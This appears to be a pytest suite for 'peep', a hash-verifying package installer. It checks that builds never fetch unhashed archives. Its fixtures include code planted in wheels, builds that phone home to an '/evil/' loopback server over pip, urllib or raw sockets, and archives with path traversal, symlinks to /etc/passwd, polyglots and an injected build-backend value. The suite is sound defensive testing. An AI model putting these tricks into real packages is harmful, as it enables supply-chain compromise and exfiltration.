"""Building verified sdists: nothing unverified is reached, whatever the build asks for.

Each route by which a build could reach an archive nobody hashed has a test:
the unverified archive is really served (at /evil/ on the loopback server,
so that the attack would work if the route were open), it carries a
telltale that its code would write, and each test asserts that the server
saw no request for it, that no telltale was written, and what the user is
told.
"""

from __future__ import annotations

import io
import subprocess
import sys
import tarfile
import warnings
import zipfile
from pathlib import Path
from typing import Dict, List

import pytest
from helpers import (
    TELLTALE_ENV,
    Deploy,
    block,
    confinement_refused,
    report,
    refusal,
    reports,
    sdist_bytes,
    tar_gz_bytes,
    wheel_bytes,
    wheel_from_installed,
)

import peep


def pth_telltale(name: str) -> Dict[str, bytes]:
    """A .pth file that records, when its wheel's directory is a site dir, that it ran."""
    code = (
        "import os; d = os.environ.get(%r); "
        "d and open(os.path.join(d, %r), 'w').write('unverified code ran')\n"
    ) % (TELLTALE_ENV, name + ".ran")
    return {f"{name}_telltale.pth": code.encode()}


def assert_nothing_unverified_reached(deploy: Deploy, result: subprocess.CompletedProcess) -> None:
    """No request for a planted file, no telltale of its code, nothing installed."""
    assert deploy.index.evil_requests() == [], result.stderr
    assert not any(name.startswith("evil") for name in deploy.ran())
    assert deploy.installed() == {}


# --- Routes to unverified archives ----------------------------------------------------


def test_direct_url_in_static_build_requirements_is_refused(deploy: Deploy) -> None:
    url = deploy.index.plant(wheel_bytes("helper", "1.0", extra_files=pth_telltale("evil")))
    helper = deploy.index.add(wheel_bytes("helper", "1.0"))
    sdist = deploy.index.add(sdist_bytes("beta", "2.0", build_requires=[f"helper @ {url}"]))
    # A hashed helper==1.0 is listed too: peep must not be satisfied by the name.
    deploy.write(block(sdist.data, "beta==2.0") + block(helper.data, "helper==1.0"))
    result = deploy.install()
    assert result.returncode == 1, result.stderr
    assert "The following sdists can't be built safely, so peep won't build them:" in result.stderr
    assert f"beta-2.0.tar.gz: build requirement 'helper @ {url}' (its pyproject.toml) is a direct URL" in result.stderr
    assert "list helper in your requirements with its hash instead" in result.stderr
    assert_nothing_unverified_reached(deploy, result)
    assert deploy.ran() == []  # not even the verified sdist's backend ran


def test_direct_url_from_get_requires_for_build_wheel_is_refused(deploy: Deploy) -> None:
    url = deploy.index.plant(wheel_bytes("helper", "1.0", extra_files=pth_telltale("evil")))
    sdist = deploy.index.add(sdist_bytes("beta", "2.0", extra_build_requires=[f"helper @ {url}"]))
    deploy.write(block(sdist.data, "beta==2.0"))
    result = deploy.install()
    assert result.returncode == 1, result.stderr
    assert (f"beta-2.0.tar.gz: build requirement 'helper @ {url}' "
            "(its backend's get_requires_for_build_wheel) is a direct URL") in result.stderr
    assert_nothing_unverified_reached(deploy, result)
    assert deploy.ran() == ["beta-2.0.ran"]  # the verified backend was asked, nothing more


def test_direct_url_in_a_build_dependencys_own_requirements_is_refused(deploy: Deploy) -> None:
    url = deploy.index.plant(wheel_bytes("sneaky", "1.0", extra_files=pth_telltale("evil")))
    helper = deploy.index.add(wheel_bytes("helper", "1.0", requires=[f"sneaky @ {url}"]))
    sdist = deploy.index.add(sdist_bytes("beta", "2.0", build_requires=["helper"]))
    deploy.write(block(sdist.data, "beta==2.0") + block(helper.data, "helper==1.0"))
    result = deploy.install()
    assert result.returncode == 1, result.stderr
    assert f"build requirement 'sneaky @ {url}' (a dependency of helper 1.0) is a direct URL" in result.stderr
    assert_nothing_unverified_reached(deploy, result)


def test_build_dependencies_of_build_dependencies_must_be_verified_wheels(deploy: Deploy) -> None:
    deploy.index.plant(wheel_bytes("sneaky", "1.0", extra_files=pth_telltale("evil")))
    sneaky = deploy.index.add(wheel_bytes("sneaky", "1.0"))
    helper = deploy.index.add(wheel_bytes("helper", "1.0", requires=["sneaky>=1"]))
    sdist = deploy.index.add(sdist_bytes("beta", "2.0", build_requires=["helper"]))
    text = block(sdist.data, "beta==2.0") + block(helper.data, "helper==1.0")
    deploy.write(text)
    result = deploy.install()
    assert result.returncode == 1, result.stderr
    assert "    beta-2.0.tar.gz needs sneaky>=1 (a dependency of helper 1.0):" in result.stderr
    assert_nothing_unverified_reached(deploy, result)
    # With sneaky hashed too, the build gets helper and sneaky, and succeeds.
    deploy.write(text + block(sneaky.data, "sneaky==1.0"))
    result = deploy.install()
    assert result.returncode == 0, result.stderr
    assert deploy.installed() == {"beta": "2.0", "helper": "1.0", "sneaky": "1.0"}


def test_missing_dynamic_build_dependency_gets_a_paste_ready_hash(deploy: Deploy) -> None:
    sneaky = deploy.index.add(wheel_bytes("sneaky", "1.0"))
    sdist = deploy.index.add(sdist_bytes("beta", "2.0", extra_build_requires=["sneaky>=1"]))
    deploy.write(block(sdist.data, "beta==2.0"))
    result = deploy.install()
    assert result.returncode == 1, result.stderr
    expected = block(sneaky.data, "sneaky==1.0").splitlines()
    assert (
        "    beta-2.0.tar.gz needs sneaky>=1 (its backend's get_requires_for_build_wheel):\n"
        f"        {expected[0]}\n        {expected[1]}\n"
    ) in result.stderr
    assert deploy.installed() == {}
    # The pasted block is all it takes.
    deploy.write(block(sdist.data, "beta==2.0") + block(sneaky.data, "sneaky==1.0"))
    result = deploy.install()
    assert result.returncode == 0, result.stderr


def test_nested_pip_and_urllib_in_a_build_reach_nothing(deploy: Deploy) -> None:
    """The backend tries pip (with an index and find-links of its own) and urllib."""
    deploy.index.plant(wheel_bytes("sneaky", "1.0", extra_files=pth_telltale("evil")))
    index_url, links = deploy.index.evil_url(""), deploy.index.evil_url("")
    code = f"""
import subprocess, sys, urllib.request
_pip = subprocess.run([sys.executable, "-m", "pip", "download", "--no-deps", "-d", "fetched",
                       "--index-url", {index_url!r}, "--find-links", {links!r}, "sneaky"],
                      capture_output=True, text=True)
try:
    urllib.request.urlopen({deploy.index.evil_url("phone-home")!r}, timeout=10)
    _urllib = "reached"
except Exception as exc:
    _urllib = "blocked"
with open(os.path.join(os.environ[{TELLTALE_ENV!r}], "attempts.txt"), "w") as f:
    f.write("pip %d urllib %s" % (_pip.returncode, _urllib))
"""
    sdist = deploy.index.add(sdist_bytes("beta", "2.0", backend_code="import os\n" + code))
    deploy.write(block(sdist.data, "beta==2.0"))
    result = deploy.install()
    assert result.returncode == 0, result.stderr
    assert deploy.index.evil_requests() == []
    assert (deploy.telltales / "attempts.txt").read_text() == "pip 1 urllib blocked"


def test_legacy_setup_py_sdist_fetches_no_setup_requires(deploy: Deploy, tmp_path: Path) -> None:
    """No pyproject.toml, setuptools and wheel installed: setup_requires and find_links."""
    python = sys.executable  # the test environment: a venv with setuptools and wheel
    subprocess.run([python, "-c", "import setuptools, wheel"], check=True)
    deploy.index.plant(wheel_bytes("sneaky", "1.0", extra_files=pth_telltale("evil")))
    setuptools = deploy.index.add(wheel_from_installed("setuptools"))
    members = {
        "legacy-1.0/setup.py": b"from setuptools import setup\n"
                               b"setup(name='legacy', version='1.0', py_modules=['legacy'],"
                               b" setup_requires=['sneaky'])\n",
        "legacy-1.0/setup.cfg": f"[easy_install]\nfind_links = {deploy.index.evil_url('')}\n".encode(),
        "legacy-1.0/legacy.py": b"VERSION = '1.0'\n",
        "legacy-1.0/PKG-INFO": b"Metadata-Version: 2.1\nName: legacy\nVersion: 1.0\n",
    }
    data = tar_gz_bytes([(tarfile.TarInfo(name), body) for name, body in members.items()])
    sdist = deploy.index.add(("legacy-1.0.tar.gz", data))
    text = block(sdist.data, "legacy==1.0") + block(setuptools.data, f"setuptools=={setuptools.filename.split('-')[1]}")
    deploy.write(text)
    result = deploy.install(python=python)
    assert result.returncode == 1, result.stderr
    assert "    legacy-1.0.tar.gz needs sneaky (its backend's get_requires_for_build_wheel)" in result.stderr
    assert_nothing_unverified_reached(deploy, result)
    # pip's own legacy route is refused outright.
    deploy.write(text)
    result = deploy.install("--no-use-pep517", python=python)
    assert result.returncode == 2
    assert "--no-use-pep517 is not supported: it makes pip run setup.py itself" in result.stderr
    assert deploy.index.evil_requests() == []


@pytest.mark.parametrize("network", ["closed", "none"])
def test_setup_py_sdist_builds_through_pep_517_with_a_verified_setuptools(
    deploy: Deploy, network: str
) -> None:
    """A real backend builds under either mode's confinement (setuptools writes its build/)."""
    if network == "none" and confinement_refused():
        pytest.skip(confinement_refused())
    # setuptools, and what older releases of it ask for (wheel, which needs packaging).
    backend = [deploy.index.add(wheel_from_installed(p)) for p in ("setuptools", "wheel", "packaging")]
    members = {
        "plain-1.0/setup.py": b"from setuptools import setup\n"
                              b"setup(name='plain', version='1.0', py_modules=['plain'])\n",
        "plain-1.0/plain.py": b"VERSION = '1.0'\n",
    }
    data = tar_gz_bytes([(tarfile.TarInfo(name), body) for name, body in members.items()])
    sdist = deploy.index.add(("plain-1.0.tar.gz", data))
    pins = {w.project: w.filename.split("-")[1] for w in backend}
    deploy.write(block(sdist.data, "plain==1.0")
                 + "".join(block(w.data, f"{w.project}=={pins[w.project]}") for w in backend))
    result = deploy.install(f"--build-network={network}")
    assert result.returncode == 0, result.stderr
    assert deploy.installed() == dict(pins, plain="1.0")
    assert (deploy.target / "plain.py").read_text() == "VERSION = '1.0'\n"
    assert "setup.py install" not in result.stdout + result.stderr


def test_refused_build_options(deploy: Deploy) -> None:
    sdist = deploy.index.add(sdist_bytes("beta", "2.0"))
    deploy.write(block(sdist.data, "beta==2.0"))
    result = deploy.install("--no-build-isolation")
    assert result.returncode == 2
    assert "--no-build-isolation is not supported: it lets a build import whatever is installed" in result.stderr
    assert deploy.ran() == []


def test_two_sdists_share_one_build_environment(deploy: Deploy) -> None:
    helper = deploy.index.add(wheel_bytes("helper", "1.0"))
    beta = deploy.index.add(sdist_bytes("beta", "2.0", build_requires=["helper"]))
    gamma = deploy.index.add(sdist_bytes("gamma", "3.0", build_requires=["helper>=1"]))
    text = block(beta.data, "beta==2.0") + block(gamma.data, "gamma==3.0") + block(helper.data, "helper==1.0")
    deploy.write(text)
    result = deploy.install()
    assert result.returncode == 0, result.stderr
    assert result.stderr.count("peep: preparing a build environment with helper 1.0") == 1
    assert deploy.ran() == ["beta-2.0.ran", "gamma-3.0.ran"]
    assert deploy.installed() == {"beta": "2.0", "gamma": "3.0", "helper": "1.0"}


def test_a_build_uses_the_pinned_build_dependency_though_the_install_has_another(deploy: Deploy, tmp_path: Path) -> None:
    """As in pip's build environments: a project pinned in --build-constraint is the pin's file
    in every build, whatever version of it the requirements install."""
    old = deploy.index.add(wheel_bytes("helper", "1.0"))
    new = deploy.index.add(wheel_bytes("helper", "2.0"))
    beta = deploy.index.add(sdist_bytes("beta", "2.0", build_requires=["helper"]))
    deploy.write(block(beta.data, "beta==2.0") + block(new.data, "helper==2.0"))
    pins = tmp_path / "build-constraints.txt"
    pins.write_text(block(old.data, "helper==1.0"))
    result = deploy.install("--build-constraint", str(pins))
    assert result.returncode == 0, result.stderr
    assert "peep: preparing a build environment with helper 1.0" in result.stderr
    assert deploy.installed() == {"beta": "2.0", "helper": "2.0"}


def test_build_sees_only_its_environment_not_the_interpreters_packages(deploy: Deploy) -> None:
    """The build interpreter cannot import what peep's own Python has installed."""
    code = """
import os
try:
    import pytest  # installed where the tests run, not in the build environment
    _seen = "visible"
except ImportError:
    _seen = "hidden"
with open(os.path.join(os.environ[%r], "imports.txt"), "w") as f:
    f.write(_seen)
""" % TELLTALE_ENV
    sdist = deploy.index.add(sdist_bytes("beta", "2.0", backend_code=code))
    deploy.write(block(sdist.data, "beta==2.0"))
    result = deploy.install()
    assert result.returncode == 0, result.stderr
    assert (deploy.telltales / "imports.txt").read_text() == "hidden"


# --- --build-network ---------------------------------------------------------------------


def phone_home_code(url_port: int) -> str:
    return f"""
import os, socket
try:
    _s = socket.create_connection(("127.0.0.1", {url_port}), timeout=10)
    _s.sendall(b"GET /evil/raw-socket HTTP/1.0\\r\\n\\r\\n")
    _s.recv(100)
    _reached = "reached"
except OSError:
    _reached = "blocked"
{report("socket", "_reached")}"""


def test_closed_network_does_not_stop_raw_sockets(deploy: Deploy) -> None:
    """What the README says the default mode does not stop: verified code's own sockets."""
    sdist = deploy.index.add(sdist_bytes("beta", "2.0", backend_code=phone_home_code(deploy.index.port)))
    deploy.write(block(sdist.data, "beta==2.0"))
    result = deploy.install("-v")
    assert result.returncode == 0, result.stderr
    assert reports(result.stderr)["socket"] == "reached"


@pytest.mark.skipif(sys.platform != "linux", reason="network namespaces are Linux's")
def test_build_network_none_stops_raw_sockets(deploy: Deploy) -> None:
    pair = f"""
import socket
_a, _b = socket.socketpair()  # what asyncio and multiprocessing need keeps working
_a.sendall(b"ok")
{report("pair", "_b.recv(2)")}"""
    code = phone_home_code(deploy.index.port) + pair
    sdist = deploy.index.add(sdist_bytes("beta", "2.0", backend_code=code))
    deploy.write(block(sdist.data, "beta==2.0"))
    # The telltale dir is outside the build's directories: not passed on.
    result = deploy.install("--build-network=none", "-v", env=deploy.env(PEEP_BUILD_ENV=""))
    refused = confinement_refused()
    if refused:
        assert result.returncode == 1
        assert "--build-network=none cannot isolate builds on this system" in result.stderr
        pytest.skip(f"{refused}: checked only that peep refuses --build-network=none")
    assert result.returncode == 0, result.stderr
    assert reports(result.stderr) == {"socket": "blocked", "pair": b"ok"}
    assert deploy.index.evil_requests() == []
    assert deploy.installed() == {"beta": "2.0"}


# --- One reading of every archive --------------------------------------------------------


def _tar(*members: tarfile.TarInfo, data: bytes = b"x") -> bytes:
    return tar_gz_bytes([(member, data) for member in members])


def _info(name: str, kind: bytes = tarfile.REGTYPE, linkname: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = linkname
    if kind == tarfile.DIRTYPE:
        info.mode = 0o755
    return info


def _zip(*names: str, data: bytes = b"x", symlink: str = "") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in names:
            archive.writestr(zipfile.ZipInfo(name), data)
        if symlink:
            info = zipfile.ZipInfo(symlink)
            info.external_attr = 0o120777 << 16
            archive.writestr(info, "../../etc/passwd")
    return buffer.getvalue()


def _wheel(*extra: str, metadata: bytes = b"Name: alpha\nVersion: 1.0\n") -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w") as archive:
        warnings.simplefilter("ignore")  # a duplicate name is the point of some cases
        archive.writestr("alpha-1.0.dist-info/METADATA", metadata)
        archive.writestr("alpha.py", b"")
        for name in extra:
            archive.writestr(name, b"second")
    return buffer.getvalue()


def _polyglot() -> bytes:
    """A .tar.gz whose bytes are also a zip archive."""
    return _tar(_info("beta-2.0/setup.py")) + _zip("beta-2.0/evil.py")


def _local_header_renamed() -> bytes:
    data = bytearray(_wheel())
    position = data.index(b"alpha.py")  # the first, in the local header
    data[position:position + 8] = b"alphb.py"
    return bytes(data)


BAD_ARCHIVES = [
    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/pyproject.toml"), _info("beta-2.0/pyproject.toml")),
     "member 'beta-2.0/pyproject.toml' appears twice"),
    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/README"), _info("beta-2.0/readme")),
     "member 'beta-2.0/readme' appears twice (or differs only in case)"),
    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/setup.py"), _info("other/setup.py")),
     "members lie outside one top-level directory ('beta-2.0' and 'other')"),
    ("beta-2.0.tar.gz", _tar(_info("setup.py")), "member 'setup.py' is not in a directory"),
    ("beta-2.0.tar.gz", _tar(_info("/etc/beta")), "member '/etc/beta' has an absolute path"),
    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/../../beta")), "member 'beta-2.0/../../beta' leaves the archive"),
    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/link", tarfile.SYMTYPE, "../../etc/passwd")),
     "link 'beta-2.0/link' points outside the archive ('../../etc/passwd')"),
    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/link", tarfile.SYMTYPE, "/etc/passwd")),
     "link 'beta-2.0/link' points outside the archive ('/etc/passwd')"),
    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/link", tarfile.LNKTYPE, "etc/passwd")),
     "hard link 'beta-2.0/link' points at 'etc/passwd', which is not an earlier file"),
    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/setup.py"), _info("beta-2.0/a", tarfile.LNKTYPE, "beta-2.0/a")),
     "hard link 'beta-2.0/a' points at 'beta-2.0/a', which is not an earlier file"),
    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/dir", tarfile.SYMTYPE, "."), _info("beta-2.0/dir/x")),
     "member 'beta-2.0/dir/x' lies under a link, not a directory"),
    # Links to "." would let a textually harmless path climb out once on disk.
    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/d/here", tarfile.SYMTYPE, "."),
                             _info("beta-2.0/d/up", tarfile.SYMTYPE, "here/here/here/../../../../x")),
     "link 'beta-2.0/d/here' points at '.', which is not a file of the archive"),
    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/x"), _info("beta-2.0/l1", tarfile.SYMTYPE, "x"),
                             _info("beta-2.0/l2", tarfile.SYMTYPE, "l1")),
     "link 'beta-2.0/l2' points at 'l1', which is not a file of the archive"),
    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/dir", tarfile.DIRTYPE), _info("beta-2.0/l", tarfile.SYMTYPE, "dir")),
     "link 'beta-2.0/l' points at 'dir', which is not a file of the archive"),
    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/x"), _info("beta-2.0/pyproject.toml", tarfile.SYMTYPE, "x")),
     "member 'beta-2.0/pyproject.toml' is a link"),
    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/dev", tarfile.CHRTYPE)),
     "member 'beta-2.0/dev' is not a file, directory or link"),
    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/pyproject.toml"), data=b"#" * (peep.MAX_METADATA_BYTES + 1)),
     "pyproject.toml is 1048577 bytes, more than peep reads"),
    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/PKG-INFO"), data=b"Name: gamma\nVersion: 2.0\n"),
     "its PKG-INFO names the project 'gamma', not the one its file name gives"),
    ("beta-2.0.tar.gz", _tar(_info("beta-2.0/PKG-INFO"), data=b"Name: beta\nVersion: 2.1\n"),
     "its PKG-INFO gives version '2.1', not the one its file name gives"),
    ("beta-2.0.tar.gz", _polyglot(), "the same bytes are also a zip archive; refusing a polyglot"),
    ("beta-2.0.tar.gz", b"not an archive", "not a readable archive"),
    ("beta-2.0.zip", b"junk" + _zip("beta-2.0/setup.py"), "does not start with a zip member"),
    ("beta-2.0.zip", _zip("beta-2.0/a", symlink="beta-2.0/link"), "member 'beta-2.0/link' is a symbolic link"),
    ("beta-2.0.zip", _zip("beta-2.0\\setup.py"), "has a NUL or a backslash in its name"),
    ("alpha-1.0-py3-none-any.whl", _wheel("alpha.py"), "member 'alpha.py' appears twice"),
    ("alpha-1.0-py3-none-any.whl", _wheel("other-1.0.dist-info/METADATA"),
     "a wheel needs exactly one .dist-info directory, not 2"),
    ("alpha-1.0-py3-none-any.whl", _wheel(metadata=b"Name: alpha\nVersion: 1.1\n"),
     "its METADATA gives version '1.1', not the one its file name gives"),
    ("alpha-1.0-py3-none-any.whl", _wheel(metadata=b"Name: other\nVersion: 1.0\n"),
     "its METADATA names the project 'other', not the one its file name gives"),
    ("alpha-2.0-py3-none-any.whl", _wheel(), "its .dist-info directory is for alpha 1.0"),
    ("alpha-1.0-py3-none-any.whl", _local_header_renamed(), "has another name in its local header"),
    ("alpha-1.0-py3-none-any.whl", _wheel(metadata=b"Name: alpha\n" + b"#" * peep.MAX_METADATA_BYTES),
     "METADATA is 1048588 bytes, more than peep reads"),
]


@pytest.mark.parametrize("filename, data, message", BAD_ARCHIVES)
def test_archives_two_tools_could_read_differently_are_refused(
    tmp_path: Path, filename: str, data: bytes, message: str
) -> None:
    assert message in refusal(tmp_path, filename, data)


def test_a_well_formed_sdist_extracts_exactly_what_was_read(tmp_path: Path) -> None:
    members = [
        (_info("beta-2.0", tarfile.DIRTYPE), b""),
        (_info("beta-2.0/PKG-INFO"), b"Metadata-Version: 2.1\nName: Beta\nVersion: 2.0\n"),
        (_info("beta-2.0/pyproject.toml"), b"[build-system]\nrequires = []\n"),
        (_info("beta-2.0/src/beta.py"), b"X = 1\n"),
        (_info("beta-2.0/README", tarfile.SYMTYPE, "src/beta.py"), b""),
        (_info("beta-2.0/copy.py", tarfile.LNKTYPE, "beta-2.0/src/beta.py"), b""),
    ]
    path = tmp_path / "beta-2.0.tar.gz"
    path.write_bytes(tar_gz_bytes(members))
    facts = peep.read_archive(str(path), path.name, extract_to=str(tmp_path / "out"))
    assert (facts.kind, facts.name, str(facts.version), facts.top) == ("sdist", "beta", "2.0", "beta-2.0")
    assert facts.pyproject == b"[build-system]\nrequires = []\n"
    root = tmp_path / "out" / "beta-2.0"
    assert sorted(str(p.relative_to(root)) for p in root.rglob("*")) == [
        "PKG-INFO", "README", "copy.py", "pyproject.toml", "src", "src/beta.py"]
    for copy in ("README", "copy.py"):  # links are extracted as copies of what they name
        assert (root / copy).read_bytes() == b"X = 1\n" and not (root / copy).is_symlink()


def _zip_of(members: Dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


@pytest.mark.parametrize("filename, data", [
    ("beta-2.0.tar.gz", tar_gz_bytes([
        (_info("beta-2.0/PKG-INFO"), b"Metadata-Version: 2.1\nName: beta\nVersion: 2.0\n"),
        (_info("beta-2.0/pyproject.toml"), b"[build-system]\nrequires = []\n"),
    ])),
    ("beta-2.0.zip", _zip_of({
        "beta-2.0/PKG-INFO": b"Metadata-Version: 2.1\nName: beta\nVersion: 2.0\n",
        "beta-2.0/pyproject.toml": b"[build-system]\nrequires = []\n",
    })),
])
def test_extracting_reads_pyproject_and_pkg_info_only_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, filename: str, data: bytes
) -> None:
    path = tmp_path / filename
    path.write_bytes(data)
    facts = peep.read_archive(str(path), filename)
    assert facts.pyproject == b"[build-system]\nrequires = []\n"
    read_again: List[str] = []

    def wanted(self: object, member: str) -> None:
        read_again.append(member)

    monkeypatch.setattr(peep._Reading, "wanted", wanted)
    out = tmp_path / "out"
    assert peep.read_archive(str(path), filename, extract_to=str(out), read_before=facts) is facts
    assert read_again == []
    assert (out / "beta-2.0" / "pyproject.toml").read_bytes() == facts.pyproject


def test_refused_sdist_is_reported_and_never_built(deploy: Deploy) -> None:
    name, good = sdist_bytes("beta", "2.0")
    with tarfile.open(fileobj=io.BytesIO(good)) as archive:
        members = [(m, archive.extractfile(m).read()) for m in archive.getmembers()]  # type: ignore[union-attr]
    second = tarfile.TarInfo("beta-2.0/pyproject.toml")
    evil = b'[build-system]\nrequires = []\nbuild-backend = "evil"\n'
    served = deploy.index.add((name, tar_gz_bytes(members + [(second, evil)])))
    deploy.write(block(served.data, "beta==2.0"))
    result = deploy.install()
    assert result.returncode == 1
    assert "The following archives matched their hashes, but peep refuses them" in result.stderr
    assert "beta-2.0.tar.gz: member 'beta-2.0/pyproject.toml' appears twice" in result.stderr
    assert deploy.ran() == [] and deploy.installed() == {}


def test_wheel_whose_metadata_disagrees_with_its_name_installs_nothing(deploy: Deploy) -> None:
    good = deploy.index.add(wheel_bytes("alpha", "1.0"))
    name, data = wheel_bytes("beta", "1.0")
    liar = deploy.index.add(("gamma-1.0-py3-none-any.whl", data), project="gamma")
    deploy.write(block(good.data, "alpha==1.0") + block(liar.data, "gamma==1.0"))
    result = deploy.install()
    assert result.returncode == 1
    assert "gamma-1.0-py3-none-any.whl: its .dist-info directory is for beta 1.0" in result.stderr
    assert deploy.installed() == {}


def test_backend_that_builds_another_project_is_refused(deploy: Deploy) -> None:
    code = "NAME = 'other'\n"  # the backend's wheel is other-2.0
    sdist = deploy.index.add(sdist_bytes("beta", "2.0", backend_code=code, extra_files={"other.py": b""}))
    deploy.write(block(sdist.data, "beta==2.0"))
    result = deploy.install()
    assert result.returncode == 1
    assert "The following sdists failed to build:" in result.stderr
    assert "beta-2.0.tar.gz: it built a bad wheel: other-2.0-py3-none-any.whl is not beta 2.0" in result.stderr
    assert deploy.installed() == {}


def test_failing_build_shows_its_output_and_installs_nothing(deploy: Deploy) -> None:
    wheel = deploy.index.add(wheel_bytes("alpha", "1.0"))
    code = "import sys\nprint('compiler exploded', file=sys.stderr)\nraise SystemExit(7)\n"
    sdist = deploy.index.add(sdist_bytes("beta", "2.0", backend_code=code))
    deploy.write(block(wheel.data, "alpha==1.0") + block(sdist.data, "beta==2.0"))
    result = deploy.install()
    assert result.returncode == 1
    assert "beta-2.0.tar.gz: get_requires_for_build_wheel failed (exit status 7)" in result.stderr
    assert "        | compiler exploded" in result.stderr
    assert deploy.installed() == {}


def test_a_failed_builds_output_is_shown_bounded_however_long_its_lines(deploy: Deploy) -> None:
    """The report shows the last lines of a failed build's output, not a line of 64 MiB.

    A build writes what it likes to its log (up to 4 GiB): peep reads its end only.
    """
    code = ("import sys\nsys.stderr.write('x' * (64 << 20))\n"
            "print('\\ncompiler exploded', file=sys.stderr)\nraise SystemExit(7)\n")
    sdist = deploy.index.add(sdist_bytes("beta", "2.0", backend_code=code))
    deploy.write(block(sdist.data, "beta==2.0"))
    result = deploy.install()
    assert result.returncode == 1
    assert "        | compiler exploded" in result.stderr
    assert len(result.stderr) < 64 << 10


@pytest.mark.parametrize("pyproject, message", [
    ('[build-system]\nrequires = [\n', "its pyproject.toml is invalid"),
    ('[build-system]\nbuild-backend = "x"\n', "build-system.requires in its pyproject.toml is missing"),
    ('[build-system]\nrequires = []\nbuild-backend = "x"\nbackend-path = ["../.."]\n',
     "build-system.backend-path '../..' leaves the source tree"),
    ('[build-system]\nrequires = []\nbuild-backend = "os; import evil"\n', "build-system.build-backend 'os; import evil' is not valid"),
])
def test_unusable_build_systems_join_the_report(deploy: Deploy, pyproject: str, message: str) -> None:
    wheel = deploy.index.add(wheel_bytes("alpha", "1.0"))
    sdist = deploy.index.add(sdist_bytes("beta", "2.0", pyproject=pyproject))
    deploy.write(block(wheel.data, "alpha==1.0") + block(sdist.data, "beta==2.0"))
    result = deploy.install()
    assert result.returncode == 1
    assert "The following sdists can't be built safely, so peep won't build them:" in result.stderr
    assert f"    beta-2.0.tar.gz: {message}" in result.stderr
    assert deploy.ran() == [] and deploy.installed() == {}
